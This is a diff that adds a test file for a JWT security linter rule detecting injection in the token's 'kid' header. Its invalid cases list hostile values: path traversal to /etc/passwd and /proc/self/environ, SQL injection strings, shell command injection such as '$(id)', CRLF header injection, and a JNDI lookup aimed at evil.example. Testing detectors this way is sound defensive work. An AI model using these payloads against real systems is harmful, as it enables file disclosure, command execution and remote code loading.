@@ -1,0 +1,70 @@
+import { expect, it } from 'vitest'
+import rule from '../../../src/rules/jwt/kid-injection.ts'
+import { testRule } from '../../rule-tester.ts'
+import { jwtSubject, testNow } from '../../subjects.ts'
+import { defaultPolicy } from '../../../src/core/policy.ts'
+import type { Jwt } from '../../../src/jwt/jwt.ts'
+import { unsigned } from '../../tokens.ts'
+
+const token = (kid: unknown) => unsigned({ alg: 'HS256', kid })
+const silent = (name: string, kid: string) => ({ name, code: token(kid) })
+const attack = (kid: string, says: string) => ({ name: JSON.stringify(kid), code: token(kid), errors: [{ messageId: 'payload', severity: 'error' as const, pointer: 'header.kid', says }] })
+
+testRule(rule, {
+  valid: [
+    { name: 'none', code: unsigned({ alg: 'HS256' }) },
+    silent('a date', '2011-04-29'),
+    silent('empty', ''),
+    silent('a UUID', '018c0ae5-4d9b-471b-bfd6-eef314bc7037'),
+    silent('a thumbprint (RFC 7638)', 'NzbLsXh8uDCcd-6MNwXF4W_7noWXFZAfHkxZsRGC9Xs'),
+    silent('base64url with two hyphens', 'Ab--cdEFghIJklMNopQRstUVwxYZ0123456789--_-A'),
+    silent('base64 with slashes inside', 'q/+3Zz8a/Bc1dEfGhIjKlMnOpQ8='),
+    silent('padded base64 that starts with a slash', '/7wvc4u8RZH3AZ5jXqQhmYmRh0k='),
+    silent('the nested form that ADFS and Auth0 use', 'RkI5MjI5OUY5ODc1N0Q4QzM0OUYzNkVGMTJDOUEzQkFCOTU3NjE2Rg'),
+    silent('an e-mail address (RFC 7520)', 'bilbo.baggins@hobbiton.example'),
+    silent('a name with spaces', 'signing key for orders or billing'),
+    silent('an ARN', 'arn:aws:kms:eu-west-1:111122223333:key/mrk-4302ec1b670f48a98ad61dade4a23be7'),
+    silent('a key version of Google Cloud', 'projects/p/locations/global/keyRings/r/cryptoKeys/k/cryptoKeyVersions/1'),
+    silent('two dots that lead nowhere', 'v1..2'),
+    silent('256 characters', 'k'.repeat(256)),
+  ],
+  invalid: [
+    { name: 'a number', code: token(5), errors: [{ messageId: 'notString', severity: 'error', confidence: 'certain' }] },
+    { name: 'null', code: token(null), errors: [{ messageId: 'notString' }] },
+    attack('../../../../../../../dev/null', 'steps out of a folder and a device file'),
+    attack('..\\..\\windows\\win.ini', 'steps out'),
+    attack('....//....//etc/passwd', 'steps out'),
+    attack('%2e%2e%2fetc%2fpasswd', 'steps out'),
+    attack('keys/..', 'steps out'),
+    attack('/dev/null', 'a path from the root and a device file'),
+    attack('/etc/passwd', 'a path from the root'),
+    attack('\\\\host\\share', 'a path from the root'),
+    attack('C:\\keys\\a.pem', 'a path from the root'),
+    attack('file:///proc/self/environ', 'a path from the root'),
+    attack('key\u0000.pem', 'control character'),
+    attack('a\r\nX-Injected: 1', 'control character'),
+    attack("x' UNION SELECT 'secret' -- ", 'quotation mark and SQL'),
+    attack('1 OR 1=1', 'SQL'),
+    attack('1 union all select 2', 'SQL'),
+    attack('0 or x =x', 'SQL'),
+    attack('key.pem; id', 'shell syntax'),
+    attack('key|id', 'shell syntax'),
+    attack('$(id)', 'shell syntax'),
+    attack('${jndi:ldap://evil.example/a}', 'shell syntax'),
+    attack('`id`', 'quotation mark'),
+    attack('<script>', 'shell syntax'),
+    attack('https://a.example/../b', 'steps out'),
+    { name: '257 characters', code: token('k'.repeat(257)), errors: [{ messageId: 'long', severity: 'warn', says: '257' }] },
+    { name: 'a DID', code: token('did:example:123#key-1'), errors: [{ messageId: 'address', severity: 'info', says: 'did' }] },
+    { name: 'a URL with a fragment', code: token('https://issuer.example/keys#1'), errors: [{ messageId: 'address', severity: 'info', says: 'https' }] },
+  ],
+})
+
+it('takes time in proportion to the length', () => {
+  for (const unit of ['or ', 'union ', '..', ' -', '/', 'or a', '%2e']) {
+    const subject = jwtSubject(token(unit.repeat(20_000))) as Jwt
+    const start = performance.now()
+    rule.check(subject, { options: rule.defaults, policy: defaultPolicy, now: testNow, report: () => {} })
+    expect(performance.now() - start).toBeLessThan(200)
+  }
+})
